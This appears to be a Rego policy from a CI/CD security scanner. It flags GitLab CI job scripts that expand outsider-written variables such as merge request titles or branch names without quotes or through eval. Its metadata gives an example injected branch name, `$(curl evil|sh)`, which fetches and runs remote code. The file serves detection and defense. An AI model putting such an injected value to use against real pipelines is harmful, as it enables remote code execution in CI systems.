# METADATA
# title: "Merge request text expanded into a job script"
# description: "Predefined variables that an outsider writes (merge request title and description, source branch name, commit message) expanded unquoted into a script line run as shell code: a branch named `$(curl evil|sh)` executes in the job."
# custom:
#   id: gitlab-script-injection
#   input: gitlab-ci
#   severity: high
#   cwe: [CWE-78]
#   benchmark:
#     - "OWASP CI/CD Top 10: CICD-SEC-4 Poisoned Pipeline Execution"
#   remediation: "Quote the variable (`\"$CI_MERGE_REQUEST_TITLE\"`) and never pass it through `eval`; better, do not use such text in scripts at all."
package palisade.checks.gitlab_ci.gitlab_script_injection

import rego.v1
import data.palisade.lib.gitlab as gl

untrusted := ["CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION", "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "CI_COMMIT_MESSAGE", "CI_COMMIT_TITLE", "CI_COMMIT_DESCRIPTION", "CI_COMMIT_REF_NAME", "CI_COMMIT_BRANCH", "CI_COMMIT_TAG_MESSAGE", "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME"]

deny contains {"msg": sprintf("job %q expands %s unquoted or through eval", [s.job, v]), "path": s.path} if {
	some s in gl.script_lines
	some v in untrusted
	unsafe(s.line, v)
}

# `$VAR` / `${VAR}` outside double quotes, or anywhere in an eval.
unsafe(line, v) if {
	regex.match(sprintf(`(^|[^"\w])\$\{?%s\b`, [v]), line)
	not regex.match(sprintf(`"[^"]*\$\{?%s\b[^"]*"`, [v]), line)
}

unsafe(line, v) if {
	regex.match(`\beval\b`, line)
	contains(line, v)
}
